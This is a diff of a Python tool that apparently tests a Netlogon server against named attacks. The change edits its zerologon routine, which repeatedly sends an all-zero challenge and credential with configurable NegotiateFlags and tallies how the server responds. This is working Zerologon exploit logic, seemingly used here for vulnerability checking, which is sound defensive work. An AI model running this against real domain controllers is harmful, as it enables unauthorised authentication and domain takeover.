@@ -6,7 +6,7 @@
   certificate                    PEM file the honest question asks about; without it the question is one byte
   header_signing                 true: propose it (default), false
   other                          NetBIOS name of another machine (OTHERPC)
-  tries                          attempts of `zerologon` (256)
+  tries, zerologon_flags         attempts of `zerologon` (256), and their NegotiateFlags
   attacks                        names; all by default
 
 Prints {"attack": outcome, ...}. An outcome is an object with what the server did:
@@ -282,13 +282,13 @@ def downgrade(given):
 
 
 def zerologon(given):
-    """Zero challenge and zero credential: one in 256 passes where nobody checks."""
+    """Zero challenge and zero credential, with flags that a good client may have: one in 256 passes where nobody checks."""
     seen = {}
     with Connection(given) as connection:
         connection.bind()
         for _ in range(min(given.get("tries", 256), 4096)):
             exchange_challenge(connection, given, bytes(8))
-            done = authenticate(connection, authenticate_stub(given, bytes(8), 0x212FFFFF))
+            done = authenticate(connection, authenticate_stub(given, bytes(8), given.get("zerologon_flags", AES_AND_SECURE_RPC)))
             name = done.get("status") or next(iter(done))
             seen[name] = seen.get(name, 0) + 1
             if "status" not in done:
